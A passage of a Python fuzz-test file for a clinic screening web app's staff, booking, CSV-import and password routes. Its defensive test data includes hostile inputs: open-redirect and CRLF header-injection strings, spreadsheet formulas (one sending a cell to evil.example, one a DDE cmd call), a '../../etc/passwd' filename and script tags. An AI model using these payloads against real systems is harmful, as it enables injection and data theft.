            assert a.source == f"next-session:{staff['user_id']}" and a.client_id is not None
            db.session.execute(delete(InvitationLink).where(InvitationLink.appointment_id == a.id))
            db.session.execute(delete(Appointment).where(Appointment.id == a.id))
            db.session.commit()
    else:
        assert response.status_code == (409 if csrf_ok and not signed else 400), response.status_code
        if csrf_ok and signed:
            assert "There is a problem" in response.text
            check_round_trip(response, pairs, "next session")


@fuzz(25)
@given(data=st.data())
def test_fuzz_addendum(app, staff, data):
    client = staff["client"]
    reference = data.draw(st.sampled_from([staff["signed"], staff["later"]]))
    text = data.draw(st.one_of(st.just("Called the client."), hostile_text()))
    pairs = mutate(data.draw, [("csrf_token", staff["token"]), ("text", text)], ["text", "csrf_token"], [], [])
    before = count(app, Addendum)
    response = post_form(client, f"/staff/submissions/{reference}/addenda", pairs)
    check(response, "addendum")
    typed = (first(pairs, "text") or "").strip()
    valid = (reference == staff["signed"] and first(pairs, "csrf_token") == staff["token"] and typed != ""
             and len(typed) <= rs.ADDENDUM_MAX)
    assert count(app, Addendum) - before == valid, (response.status_code, valid)
    csrf_ok = first(pairs, "csrf_token") == staff["token"]
    assert response.status_code == (302 if valid else 409 if reference == staff["later"] and csrf_ok else 400)
    if valid:
        with app.app_context():
            added = db.session.scalars(select(Addendum).order_by(Addendum.id.desc())).first()
            assert added.text == typed
        check(client.get(f"/staff/submissions/{reference}"), "record with addendum")
        with app.app_context():
            db.session.execute(delete(Addendum))
            db.session.commit()


@fuzz(30)
@given(data=st.data())
def test_fuzz_desk(app, staff, data):
    client = staff["client"]
    if data.draw(st.integers(0, 9)) == 0:  # now and then: turn this device into a kiosk, with junk in the form
        other = staff_client(app, staff["user_id"])
        good = token(other, "/staff/desk")
        pairs = mutate(data.draw, [("csrf_token", good)], ["csrf_token"], [], [])
        response = post_form(other, "/staff/kiosk/start", pairs)
        check(response, "kiosk start")
        ok = first(pairs, "csrf_token") == good
        assert response.status_code == (302 if ok else 400) and in_kiosk(other) == ok
        return
    reference = data.draw(st.one_of(st.sampled_from([staff["today"], staff["today"].lower(),
                                                     staff["today"].replace("-", ""), staff["later"]]),
                                    hostile_text().filter(lambda t: t not in ("", ".", ".."))))
    pairs = mutate(data.draw, [("csrf_token", staff["token"])], ["csrf_token", "reference"], [], [])
    response = post_form(client, f"/staff/desk/{quote(reference, safe='')}/arrived", pairs)
    check(response, "arrived")
    arrived = count(app, Arrival)
    valid = (first(pairs, "csrf_token") == staff["token"]
             and services.normalise_reference(reference) == staff["today"])
    assert arrived == valid and (response.status_code == 302) == valid, (response.status_code, valid)
    assert response.status_code in (302, 400, 404, 405), response.status_code
    check(client.get("/staff/desk"), "desk")
    with app.app_context():
        db.session.execute(delete(Arrival))
        db.session.commit()


@fuzz(25)
@given(data=st.data())
def test_fuzz_admin_users(app, staff, data):
    client = staff["client"]
    if count(app, StaffUser) < 2:
        add_staff(app, "other@clinic.test", ["desk"])
    with app.app_context():
        other = db.session.scalar(select(StaffUser.id).where(StaffUser.email == "other@clinic.test"))
    target = data.draw(st.one_of(st.just(str(other)), st.sampled_from([str(staff["user_id"]), "0", "-1", "999",
                                                                       "2147483648", "9" * 30, "1.5", "0x1", "%00"]),
                                 hostile_text().filter(lambda t: t not in ("", ".", ".."))))
    pairs = mutate(data.draw, [("csrf_token", staff["token"])], ["csrf_token", "user_id"], [], [])
    response = post_form(client, f"/staff/admin/users/{quote(target, safe='%')}/deactivate", pairs)
    check(response, "deactivate")
    # The route's int converter reads any decimal digits (also, say, Arabic-Indic ones) as the id.
    valid = bool(first(pairs, "csrf_token") == staff["token"] and re.fullmatch(r"\d+", target)
                 and int(target) == other)
    with app.app_context():
        active = db.session.scalar(select(StaffUser.is_active).where(StaffUser.id == other))
        assert active != valid and (response.status_code == 302) == valid, (response.status_code, valid)
        assert db.session.scalar(select(StaffUser.is_active).where(StaffUser.id == staff["user_id"]))
        db.session.execute(update(StaffUser).values(is_active=True))
        db.session.commit()
    assert response.status_code in (302, 400, 404), response.status_code
    check(client.get("/staff/admin/users"), "users")


# -- staff accounts (screening/staff/people.py) -----------------------------------------------------------------


def _reset_accounts(app, keep: set[int]) -> None:
    """Delete the accounts (and their links, sessions, mail) a fuzz example made; set the kept ones back."""
    with app.app_context():
        made = [i for i in db.session.scalars(select(StaffUser.id)) if i not in keep]
        db.session.execute(delete(AccountLink))
        db.session.execute(delete(Outbox))
        if made:
            db.session.execute(delete(StaffSession).where(StaffSession.user_id.in_(made)))
            db.session.execute(update(AuditEvent).where(AuditEvent.actor_id.in_(made)).values(actor_id=None))
            db.session.execute(delete(StaffUser).where(StaffUser.id.in_(made)))
        db.session.commit()


@fuzz(30)
@given(data=st.data())
def test_fuzz_invite_user(app, staff, data):
    client = staff["client"]
    good = [("csrf_token", staff["token"]), ("name", NAME), ("email", "pat@clinic.example"), ("roles", "desk"),
            ("roles", "practitioner")]
    pairs = mutate(data.draw, good, ["csrf_token", "name", "email", "roles"], ["admin", "desk", "practitioner"], [])
    response = post_form(client, "/staff/admin/users/invite", pairs)
    check(response, "invite")
    if response.status_code == 400:
        check_round_trip(response, pairs, "invite")
    # An independent reading of the post: who would be invited.
    from tests.fuzz_strategies import _EMAIL as EMAIL_FORMAT

    from screening.questionnaire.forms import clean_text

    roles = [as_posted(v) for k, v in pairs if as_posted(k) == "roles"]
    name = clean_text(first(pairs, "name"))
    email = (first(pairs, "email") or "").strip().lower()
    valid = bool(first(pairs, "csrf_token") == staff["token"] and roles
                 and set(roles) <= {"admin", "desk", "practitioner"} and name and len(name) <= 120
                 and EMAIL_FORMAT.match(email) and "\x00" not in email and len(email) <= 254
                 and email != "boss@clinic.test")
    made = count(app, StaffUser) - 1
    assert made == int(valid), (response.status_code, pairs)
    if made:
        assert response.status_code == 303 and count(app, Outbox) == 1 and count(app, AccountLink) == 1
        with app.app_context():
            user = db.session.scalar(select(StaffUser).where(StaffUser.id != staff["user_id"]))
            assert user.password_hash == "" and user.email == email and user.roles == ",".join(sorted(set(roles)))
    else:
        assert response.status_code in (400,), response.status_code
        assert count(app, Outbox) == 0
    _reset_accounts(app, {staff["user_id"]})


@fuzz(40)
@given(data=st.data())
def test_fuzz_account_actions(app, staff, data):
    client = staff["client"]
    if count(app, StaffUser, StaffUser.email == "other@clinic.test") == 0:
        add_staff(app, "other@clinic.test", ["desk"])
    with app.app_context():
        other = db.session.scalar(select(StaffUser.id).where(StaffUser.email == "other@clinic.test"))
    action = data.draw(st.sampled_from(["roles", "invite", "reactivate", "deactivate"]))
    target = data.draw(st.one_of(st.just(str(other)), st.sampled_from([str(staff["user_id"]), "0", "999",
                                                                       "2147483648", "1.5", "%00"]),
                                 hostile_text().filter(lambda t: t not in ("", ".", ".."))))
    pairs = mutate(data.draw, [("csrf_token", staff["token"]), ("roles", "desk")],
                   ["csrf_token", "roles"], ["admin", "desk", "practitioner", "owner"], [])
    response = post_form(client, f"/staff/admin/users/{quote(target, safe='%')}/{action}", pairs)
    check(response, action)
    assert response.status_code in (302, 303, 400, 404), response.status_code
    with app.app_context():
        me = db.session.get(StaffUser, staff["user_id"])
        assert me.is_active and me.has_role("admin"), "an admin never loses their own admin role or account"
        db.session.execute(update(StaffUser).where(StaffUser.id == other).values(is_active=True, roles="desk"))
        db.session.execute(update(StaffUser).where(StaffUser.id == staff["user_id"])
                           .values(roles="admin,desk,practitioner"))
        db.session.commit()
    check(client.get(f"/staff/admin/users/{other}"), "account page")


@fuzz(30)
@given(data=st.data())
def test_fuzz_forgotten_password(app, staff, data):
    client = app.test_client()
    csrf = token(client, "/staff/password/forgotten")
    email = data.draw(st.sampled_from(["boss@clinic.test", " BOSS@clinic.test ", "nobody@clinic.test"]))
    pairs = mutate(data.draw, [("csrf_token", csrf), ("email", email)], ["csrf_token", "email"], [], [])
    response = post_form(client, "/staff/password/forgotten", pairs)
    check(response, "forgotten password")
    posted = first(pairs, "email")
    ok = first(pairs, "csrf_token") == csrf
    if response.status_code == 400 and ok:
        check_round_trip(response, pairs, "forgotten password")
    assert response.status_code in ((200, 400) if ok else (400,)), response.status_code
    mailed = count(app, Outbox)
    assert mailed == (1 if ok and response.status_code == 200 and (posted or "").strip().lower() == "boss@clinic.test"
                      else 0), (mailed, response.status_code, posted)
    _reset_accounts(app, {staff["user_id"]})


@fuzz(30)
@given(data=st.data())
def test_fuzz_choose_password(app, staff, data):
    from screening.staff import passwords

    _reset_accounts(app, {staff["user_id"]})  # (an example that failed left its link behind)
    with app.app_context():
        link = AccountLink(user_id=staff["user_id"], token_hash=secrets.token_hex(32),
                           purpose="reset", created_at=utcnow(), expires_at=utcnow() + dt.timedelta(hours=1))
        db.session.add(link)
        db.session.commit()
        link_id, before = link.id, db.session.get(StaffUser, staff["user_id"]).password_hash
    client = app.test_client()
    with client.session_transaction() as session:
        session["account_link"] = link_id
    csrf = token(client, "/staff/password/new")
    good = data.draw(st.sampled_from(["plum orchard lantern seven", "password1234", "short"]))
    pairs = mutate(data.draw, [("csrf_token", csrf), ("password", good), ("confirm", good)],
                   ["csrf_token", "password", "confirm"], [], [])
    response = post_form(client, "/staff/password/new", pairs)
    check(response, "choose password")
    password, confirm = first(pairs, "password") or "", first(pairs, "confirm") or ""
    valid = (first(pairs, "csrf_token") == csrf and password and password == confirm
             and passwords.problem(password, "boss@clinic.test") is None)
    with app.app_context():
        after = db.session.get(StaffUser, staff["user_id"]).password_hash
        assert (after != before) == bool(valid), (response.status_code, password)
        assert response.status_code == (303 if valid else 400), response.status_code
        if response.status_code == 400 and password:
            assert not re.search(r'type="password"[^>]*value="[^"]', response.get_data(as_text=True))
        db.session.execute(update(StaffUser).where(StaffUser.id == staff["user_id"]).values(password_hash=before))
        db.session.execute(update(StaffSession).values(ended_at=None))
        db.session.commit()
    _reset_accounts(app, {staff["user_id"]})


@fuzz(20)
@given(data=st.data())
def test_fuzz_staff_session(app, staff, data):
    client = staff_client(app, staff["user_id"])
    which = data.draw(st.sampled_from(["/staff/session/extend", "/staff/logout"]))
    nxt = data.draw(st.one_of(st.sampled_from(["/staff/desk", "//evil.example/", "https://evil.example/",
                                               "/staff/\r\nSet-Cookie: a=b"]), hostile_text()))
    csrf = token(client, "/staff/desk")
    pairs = mutate(data.draw, [("csrf_token", csrf), ("next", nxt)], ["csrf_token", "next"], [], [])
    accept = data.draw(st.sampled_from(["text/html", "application/json", "*/*", "<script>"]))
    response = post_form(client, which, pairs, headers={"Accept": accept})
    check(response, which)
    ok = first(pairs, "csrf_token") == csrf
    assert response.status_code in ((200, 302) if ok else (400,)), response.status_code
    if response.status_code == 302:
        assert response.location.startswith("/staff/") and not response.location.startswith("//")
        assert "\r" not in response.location and "\n" not in response.location
    with app.app_context():
        ended = db.session.scalar(select(func.count()).select_from(StaffSession)
                                  .where(StaffSession.ended_at.is_not(None)))
        db.session.execute(delete(StaffSession).where(StaffSession.ended_at.is_not(None)))
        db.session.commit()
    assert ended == (1 if ok and which == "/staff/logout" else 0)


# -- appointments and invitations -------------------------------------------------------------------------

DAY = TODAY + dt.timedelta(days=5)
PRACTITIONER = "boss@clinic.test"  # the account of the ``staff`` and ``booker`` fixtures, a practitioner too
EXISTING = "EXIST-1"  # the external_id of the appointment booked before each appointment fuzz
# A valid booking, with a payload in its free text, as the desk's form, the CSV and the API send it.
GOOD_BOOKING = {"name": NAME, "date_of_birth": "1990-03-27", "email": EMAIL, "phone": "07700 900123",
                "date": DAY.isoformat(), "time": "14:30", "treatment": "rf", "areas": ["full_face", "forehead"],
                "practitioner_email": "", "external_id": ""}
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "\t=1+1"]
# Values close to each field's limits, on both sides of them, and cells a spreadsheet would run as a formula.
BOOKING_ALTERNATIVES = {
    "name": ["Siobhán O'Neill", "  Ann   Example  ", "a" * 120, "a" * 121, "", "\x00", "Ann\x00Example"],
    "date_of_birth": [(TODAY - dt.timedelta(days=1)).isoformat(), TODAY.isoformat(), f"{TODAY.year - 120}-01-01",
                      f"{TODAY.year - 121}-12-31", "1990-02-30", "27/03/1990", "1990-3-27", " 1990-03-27 ", "",
                      "1" * 10_001],
    "email": ["", "not-an-address", "a@b.c", "a b@c.de", "x" * 250 + "@b.co", "X@EXAMPLE.ORG"],
    "phone": ["", "+44 7700 900 982", "123", "07700-900123x", "(020) 7946 0000"],
    "date": [TODAY.isoformat(), (TODAY - dt.timedelta(days=1)).isoformat(),
             (TODAY + dt.timedelta(days=732)).isoformat(), (TODAY + dt.timedelta(days=733)).isoformat(),
             f"{TODAY.year + 1}-13-01", "", "tomorrow"],
    "time": ["9:05", "00:00", "23:59", "24:00", "14:60", "1430", "14:30:00", "", " 14:30", "1" * 10_001],
    "treatment": [*TREATMENTS, "", "unknown", "RF", "rf ", "rf" * 5001],
    "areas": [["full_face"], [], ["full_face", "full_face"], ["nose", "elbows"], ["Full_Face"], [""],
              list(AREAS)],
    "practitioner_email": ["", PRACTITIONER, PRACTITIONER.upper(), "nobody@clinic.test"],
    "external_id": ["", "BK-1001", "bk.1001:a_b", EXISTING, ".BK", "a b", "x" * 100, "x" * 101, "  ", "\x00"],
}
FIELD_NAMES = list(GOOD_BOOKING)


def typed(text: str) -> str:
    """Typed text as a booking reads it (read here on its own): control and bidi characters and lone surrogates
    dropped, spaces collapsed."""
    bidi = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    return " ".join("".join(c for c in text if c.isspace() or (unicodedata.category(c) not in ("Cc", "Cs")
                                                               and c not in bidi)).split())


def iso_date(text: str) -> dt.date | None:
    if not re.fullmatch(r"\d{4}-\d{2}-\d{2}", text):
        return None
    try:
        return dt.date.fromisoformat(text)
    except ValueError:
        return None


def booking_faults(raw: dict, *, unknown: bool = True) -> tuple[set[str], tuple | None]:
    """Read a booking's raw fields on their own: return the fields at fault, and (when there are none) what the
    booking holds, as a tuple to compare two bookings by."""
    faults: set[str] = {k for k in raw if k not in FIELD_NAMES} if unknown else set()
    limits = {"external_id": 100, "name": 120, "email": 254, "phone": 30, "practitioner_email": 254}
    text = {}
    for key in FIELD_NAMES:
        value = raw.get(key)
        if key == "areas":
            continue
        if value is not None and not isinstance(value, str):
            faults.add(key)
            continue
        text[key] = typed(value or "")
        if len(text[key]) > limits.get(key, 10_000):
            faults.add(key)
    for key in ("name", "date_of_birth", "date", "time", "treatment"):
        if not text.get(key):
            faults.add(key)
    dob, day = iso_date(text.get("date_of_birth", "")), iso_date(text.get("date", ""))
    if dob is None or not (TODAY.year - 120 <= dob.year and dob < TODAY):
        faults.add("date_of_birth")
    if day is None or not TODAY <= day <= TODAY + dt.timedelta(days=732):
        faults.add("date")
    time = re.fullmatch(r"(\d{1,2}):(\d{2})", text.get("time", ""))
    if not time or int(time.group(1)) > 23 or int(time.group(2)) > 59:
        faults.add("time")
    if text.get("email") and not re.fullmatch(r"[^@\s]+@[^@\s]+\.[^@\s]+", text["email"]):
        faults.add("email")
    if text.get("phone") and not re.fullmatch(r"\+?[0-9 ()-]{7,20}", text["phone"]):
        faults.add("phone")
    if text.get("treatment") not in TREATMENTS:
        faults.add("treatment")
    areas = raw.get("areas")
    if isinstance(areas, (list, tuple)):
        areas = [str(a).strip() for a in areas if str(a).strip()]
    elif isinstance(areas, str) or areas is None:
        areas = [a for a in re.split(r"[;,\s]+", (areas or "").strip()) if a]
    else:
        areas = None
    if not areas or not set(areas) <= set(AREAS):
        faults.add("areas")
    if text.get("practitioner_email") and text["practitioner_email"].lower() != PRACTITIONER:
        faults.add("practitioner_email")
    if text.get("external_id") and not re.fullmatch(r"[A-Za-z0-9_:-][A-Za-z0-9._:-]*", text["external_id"]):
        faults.add("external_id")
    if faults:
        return faults, None
    return faults, (text["name"], dob, text.get("email", ""), text.get("phone", ""), day,
                    dt.time(int(time.group(1)), int(time.group(2))), text["treatment"],
                    tuple(dict.fromkeys(areas)), bool(text.get("practitioner_email")))


EXISTING_BOOKING = booking_faults(dict(GOOD_BOOKING, external_id=EXISTING))[1]


def booking_values(draw, **changes) -> dict:
    """A booking, valid about half the time: up to 3 of its fields replaced by a value near a limit, a formula or
    hostile text."""
    values = dict(GOOD_BOOKING, **changes)
    for key in draw(st.one_of(st.just(set()), st.sets(st.sampled_from(FIELD_NAMES), max_size=3))):
        alternative = st.sampled_from(BOOKING_ALTERNATIVES[key])
        values[key] = draw(st.one_of(alternative, alternative, st.sampled_from(FORMULAS), hostile_text())
                           if key != "areas" else st.one_of(alternative, st.lists(hostile_text(), max_size=2)))
    return values


def book_appointment(app, **changes) -> tuple[str, int]:
    """Book an appointment through the services (its invitation sent); return its uid and its link's id."""
    with app.app_context(), app.test_request_context():
        booking, errors = check_booking(dict(GOOD_BOOKING, **changes), today=TODAY,
                                        practitioners=appointments.practitioners(db.session))
        assert not errors, errors
        appointment, _created = appointments.book(db.session, booking, source="test")
        link = db.session.scalar(select(InvitationLink.id).where(InvitationLink.appointment_id == appointment.id))
        return appointment.uid, link


def drop_appointments(app, keep: str | None = None) -> None:
    """Delete every appointment (but ``keep``'s uid) and its links: the next example starts from the same rows."""
    with app.app_context():
        gone = select(Appointment.id).where(Appointment.uid != (keep or ""))
        db.session.execute(delete(InvitationLink).where(InvitationLink.appointment_id.in_(gone)))
        db.session.execute(delete(Appointment).where(Appointment.uid != (keep or "")))
        db.session.commit()


def appointment_state(app, uid: str) -> dict:
    with app.app_context():
        a = appointments.by_uid(db.session, uid)
        return {"cancelled": a.cancelled_at is not None, "locked": a.locked_at is not None,
                "failures": a.dob_failures, "submission_id": a.submission_id, "draft_id": a.draft_id,
                "mismatch": a.mismatch, "links": count(app, InvitationLink, InvitationLink.appointment_id == a.id),
                "outbox": count(app, Outbox, Outbox.appointment_id == a.id)}


@pytest.fixture
def booker(app):
    """A client signed in with every role (the desk acts, the account is a practitioner too), and an appointment
    already booked with the external_id EXISTING."""
    user_id = add_staff(app, PRACTITIONER, ["admin", "desk", "practitioner"])
    uid, _link = book_appointment(app, external_id=EXISTING)
    client = staff_client(app, user_id)
    return {"client": client, "existing": uid, "token": token(client, "/staff/appointments/new")}


@fuzz(25)
@given(data=st.data())
def test_fuzz_new_appointment(app, booker, data):
    """A post books one appointment (303) exactly when an independent reading of it says it is valid (the same
    booking again as EXISTING books nothing new); anything else is a 400 that shows what was typed, storing
    nothing."""
    client = booker["client"]
    values = booking_values(data.draw)
    pairs = [("csrf_token", booker["token"])] + pairs_of(values)
    pairs = mutate(data.draw, pairs, FIELD_NAMES, [*TREATMENTS, *AREAS, PRACTITIONER, DAY.isoformat()], [])
    before = count(app, Appointment)
    response = post_form(client, "/staff/appointments/new", pairs)
    check(response, "new appointment")
    raw = {k: first(pairs, k) or "" for k in FIELD_NAMES if k != "areas"}
    raw["areas"] = [as_posted(v) for k, v in pairs if as_posted(k) == "areas"]
    faults, booking = booking_faults(raw)
    replay = typed(raw["external_id"]) == EXISTING
    valid = first(pairs, "csrf_token") == booker["token"] and not faults and (not replay or booking == EXISTING_BOOKING)
    created = count(app, Appointment) - before
    assert (response.status_code == 303) == valid, (response.status_code, valid, faults, raw)
    if valid:
        assert created == (0 if replay else 1), created
        assert response.location.startswith("/staff/appointments/"), response.location
        check(client.get(response.location), "appointment page")
        with app.app_context():
            a = appointments.by_uid(db.session, response.location.rsplit("/", 1)[1])
            assert (a.client_name, dt.date.fromisoformat(a.client_dob), a.client_email, a.client_phone,
                    a.appointment_date, a.appointment_time, a.treatment_variant, tuple(a.areas),
                    a.practitioner_id is not None) == booking
        drop_appointments(app, keep=booker["existing"])
    else:
        assert response.status_code == 400 and created == 0, (response.status_code, created)
        if first(pairs, "csrf_token") == booker["token"]:
            assert "There is a problem" in response.text
            check_round_trip(response, pairs, "new appointment")


def SLASHED(target: str) -> tuple[int, ...]:  # noqa: N802 - reads as a constant in the assertions
    """A "/" in the uid makes a path with "//", which Werkzeug answers with a 308 to the path with one "/"."""
    return (308,) if "/" in target else ()


@fuzz(25)
@given(data=st.data())
def test_fuzz_appointment_actions(app, staff, data):
    """Resend, copy a link, unlock, cancel and attach a screening, on an open, cancelled or screened appointment
    or on an unknown one: each does what it says only with the right token and in the state that allows it."""
    client = staff["client"]
    if "uid" not in staff:
        staff["uid"] = book_appointment(app)[0]
    uid = staff["uid"]
    with app.app_context():
        submissions = {reference: db.session.scalar(select(Submission.id).where(Submission.reference == reference))
                       for reference in (staff["today"], staff["later"], staff["signed"])}
    state = data.draw(st.sampled_from(["open", "open", "cancelled", "screened"]), label="state")
    email = data.draw(st.sampled_from([EMAIL, ""]), label="email")
    with app.app_context():  # the appointment in that state, its link locked by wrong dates of birth
        a = appointments.by_uid(db.session, uid)
        a.cancelled_at = utcnow() if state == "cancelled" else None
        a.submission_id = submissions[staff["signed"]] if state == "screened" else None
        a.client_email, a.locked_at, a.dob_failures, a.mismatch = email, utcnow(), 5, ""
        db.session.commit()
    action = data.draw(st.sampled_from(["resend", "link", "unlock", "cancel", "attach"]), label="action")
    target = data.draw(st.one_of(st.just(uid), st.just(uid), st.just(uid),
                                 st.sampled_from([uid.upper(), uid[:-1], uid + "0", "0", "-1", "%00", "a\x00b",
                                                  uid + "\x00", "9" * 40]),
                                 hostile_text().filter(lambda t: t not in ("", ".", ".."))))
    pairs = [("csrf_token", staff["token"])]
    if action == "attach":
        reference = data.draw(st.one_of(st.sampled_from([staff["today"], staff["today"].lower().replace("-", " "),
                                                         staff["later"], staff["signed"], "", "K7QM-4TXR",
                                                         " " * 20 + staff["today"]]), hostile_text()))
        pairs.append(("reference", reference))
    if data.draw(st.booleans()):  # half the time as the page posts it
        pairs = mutate(data.draw, pairs, ["csrf_token", "reference"], [staff["today"]], [])
    before = appointment_state(app, uid)
    response = post_form(client, f"/staff/appointments/{quote(target, safe='')}/{action}", pairs)
    check(response, action)
    after = appointment_state(app, uid)
    ok = first(pairs, "csrf_token") == staff["token"]
    if not ok:  # the CSRF check comes first: an unknown appointment too is a 400 (a 404 only off the routes)
        assert response.status_code in (400, 404, 405) + SLASHED(target) and after == before, response.status_code
        return
    if target != uid:
        assert response.status_code in (404, 405) + SLASHED(target) and after == before, (response.status_code, target)
        return
    changed = {k: after[k] for k in after if after[k] != before[k]}
    if action == "resend":
        sent = state == "open" and bool(email)
        assert response.status_code == 303, response.status_code
        assert changed == ({"links": before["links"] + 1, "outbox": before["outbox"] + 1} if sent else {}), changed
    elif action == "link":
        if state == "open":
            assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
            assert re.search(r"/i/[A-Za-z0-9_-]{40,}", response.text), "the new link is shown"
            assert changed == {"links": before["links"] + 1}, changed
        else:
            assert response.status_code == 409 and changed == {}, (response.status_code, changed)
    elif action == "unlock":
        assert response.status_code == 303 and changed == {"locked": False, "failures": 0}, changed
    elif action == "cancel":
        assert response.status_code == 303
        assert changed == ({} if state == "cancelled" else {"cancelled": True}), changed
    else:
        wanted = services.normalise_reference(as_posted(first(pairs, "reference") or "")[:20])
        attached = submissions.get(wanted) if state != "screened" else None
        assert response.status_code == 303
        # An attached screening also marks the booking facts its answers differ from.
        assert changed.get("submission_id") == attached and set(changed) <= {"submission_id", "mismatch"}, \
            (changed, wanted)
    check(client.get(f"/staff/appointments/{uid}"), "appointment after " + action)  # its flash message


def csv_bytes(draw) -> tuple[bytes, int | None, str]:
    """A CSV file and the appointments it must import (None: it must be refused as a whole), and what it is.

    Rows are booking values under the required columns and some optional ones, in any order; the file is then
    left as it is, or broken: empty, binary, not UTF-8, a line over the csv module's field limit, an unknown,
    missing or repeated column, or a line with more values than the header."""
    kind = draw(st.one_of(st.just("rows"), st.sampled_from(["rows", "empty", "binary", "not utf-8", "utf-16",
                                                            "huge line", "unknown column", "missing column",
                                                            "repeated column", "extra value"])))
    if kind == "empty":
        return draw(st.sampled_from([b"", b"\n\n", b"  \r\n", b"\xef\xbb\xbf"])), None, kind
    if kind == "binary":
        return draw(st.binary(min_size=1, max_size=300)), None, kind
    required = ["name", "date_of_birth", "date", "time", "treatment", "areas"]
    optional = draw(st.lists(st.sampled_from(["email", "phone", "practitioner_email", "external_id"]), unique=True))
    columns = draw(st.permutations(required + optional))
    rows = [booking_values(draw, external_id=f"BK-{i}") for i in range(draw(st.sampled_from([1, 2, 3, 0])))]
    if draw(st.booleans()):  # the existing appointment's row, as exported again
        rows.insert(draw(st.integers(0, len(rows))), dict(GOOD_BOOKING, external_id=EXISTING))
        columns = columns if "external_id" in columns else [*columns, "external_id"]
    header = list(columns)
    if kind == "unknown column":
        header.insert(draw(st.integers(0, len(header))), draw(st.sampled_from(["Name", "dob", "notes", "", "=1+1"])))
    elif kind == "missing column":
        header.remove(draw(st.sampled_from(required)))
    elif kind == "repeated column":
        header.append(draw(st.sampled_from(header)))
    cells = [[";".join(row[c]) if c == "areas" and isinstance(row[c], list) else row[c] for c in columns]
             for row in rows]
    if kind == "extra value":
        cells.append([*cells[0], "x"] if cells else ["a"] * (len(header) + 1))
    if kind == "huge line":
        cells.append(["x" * 140_000] * 1 + [""] * (len(header) - 1))
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=draw(st.sampled_from(["\r\n", "\n"])))
    writer.writerow(f" {c}" if c == "time" and draw(st.booleans()) else c for c in header)  # spaces are trimmed
    writer.writerows(cells)
    text = out.getvalue()
    data = (("\ufeff" if draw(st.booleans()) else "") + text).encode("utf-8")
    if kind == "not utf-8":
        cut = draw(st.integers(0, len(data)))
        return data[:cut] + draw(st.sampled_from(INVALID_UTF8)) + data[cut:], None, kind
    if kind == "utf-16":
        return text.encode("utf-16"), None, kind
    if kind != "rows":
        return data, None, kind
    # Every row must be valid, with external_ids unique, and EXISTING's row the same as booked; it is then left
    # as it is, and the others are created.
    expected, seen = 0, set()
    for row in cells:
        faults, booking = booking_faults(dict(zip(columns, row)))  # as the file is read back, by column
        external = typed(row[columns.index("external_id")]) if "external_id" in columns else ""
        if faults or (external and external in seen):
            return data, None, "invalid rows"
        if external:
            seen.add(external)
        if external == EXISTING:
            if booking != EXISTING_BOOKING:
                return data, None, "a conflicting row"
        else:
            expected += 1
    return data, (expected if rows else None), "valid rows" if rows else "no rows"


@fuzz(25)
@given(data=st.data())
def test_fuzz_import_csv(app, booker, data):
    """A file imports (303) all its rows or none: exactly when every row is valid by an independent reading of
    it; a broken or invalid file, or a missing one, is a 400 that lists the problems, and nothing is stored."""
    client = booker["client"]
    content, expected, kind = csv_bytes(data.draw)
    event(kind)
    name = data.draw(st.sampled_from(["bookings.csv", "../../etc/passwd", "<script>x.csv", "a.xlsx",
                                      ""]))  # "": no file chosen
    pairs = [("csrf_token", booker["token"])]
    if data.draw(st.booleans()):  # half the time a good token: the file is read
        pairs = mutate(data.draw, pairs, ["csrf_token", "file"], [], [])
    body = [(as_posted(k), as_posted(v)) for k, v in pairs]
    sent = data.draw(st.sampled_from(["file", "file", "file", "none", "as text", "twice"]))
    if sent in ("file", "twice"):
        body.append(("file", (io.BytesIO(content), name)))
    if sent == "twice":
        body.append(("file", (io.BytesIO(b"name\n"), "second.csv")))
    if sent == "as text":
        body.append(("file", content.decode("utf-8", "replace")))
    before = count(app, Appointment)
    response = client.post("/staff/appointments/import", data=MultiDict(body), content_type="multipart/form-data")
    check(response, "import")
    ok = first(pairs, "csrf_token") == booker["token"]
    created = count(app, Appointment) - before
    if ok and sent in ("file", "twice") and name and expected is not None:
        assert response.status_code == 303 and created == expected, (response.status_code, created, expected, kind)
        check(client.get(response.location), "appointments")
        drop_appointments(app, keep=booker["existing"])
    else:
        assert response.status_code == 400 and created == 0, (response.status_code, created, kind, sent)
        if ok:  # the problems, each on a line of the table
            assert "Nothing was imported" in response.text and "<tbody><tr>" in response.text, kind


@pytest.fixture
def invited(app):
    """An open appointment (date of birth 1990-03-27) and the id of its invitation link."""
    uid, link = book_appointment(app)
    return {"uid": uid, "link": link}


def follow_link(client, link_id: int, passed: bool = False) -> None:
    """Give the client's session the link, as following it does (without the link's rate limit)."""
    with client.session_transaction() as session:
        session.clear()
        session["invitation"] = link_id
        if passed:
            session["invitation_passed"] = link_id


def number(text: str) -> int | None:
    try:
        return int(text) if text.isdigit() else None
    except ValueError:
        return None


@fuzz(25)
@given(data=st.data())
def test_fuzz_check_dob(app, invited, data):
    """A real date of birth that is not the booking's counts a try, and the 5th locks the link (403); the right
    one opens the booking (and resets the count); anything that is not a date counts nothing."""
    failures = data.draw(st.sampled_from([0, 4, 1, 2, 3]), label="failures")
    locked = data.draw(st.sampled_from([False] * 7 + [True]), label="locked")
    with app.app_context():
        a = appointments.by_uid(db.session, invited["uid"])
        a.dob_failures, a.locked_at, a.draft_id, a.opened_at = failures, utcnow() if locked else None, None, None
        db.session.commit()
    client = app.test_client()
    follow_link(client, invited["link"])
    good = token(client, "/")
    which = data.draw(st.sampled_from(["right", "wrong", "wrong", "parts"]), label="which")
    if which == "right":
        day, month, year = data.draw(st.sampled_from([("27", "3", "1990"), ("27", "03", "1990"),
                                                      (" 27", "3 ", "1990")]))
    elif which == "wrong":
        wrong = data.draw(st.dates(dt.date(TODAY.year - 120, 1, 1), TODAY).filter(lambda d: d != dt.date(1990, 3, 27)))
        day, month, year = str(wrong.day), str(wrong.month), str(wrong.year)
    else:
        day, month, year = (data.draw(st.one_of(st.sampled_from(choices), hostile_text())) for choices in (
            ["27", "1", "31", "29", "", " 27 ", "027", "٢٧"], ["3", "03", "2", "13", "", "²"],
            ["1990", "1991", "1899", "90", "", str(TODAY.year + 1), "१९९०"]))
    pairs = [("csrf_token", good), ("dob-day", day), ("dob-month", month), ("dob-year", year)]
    if data.draw(st.booleans()):
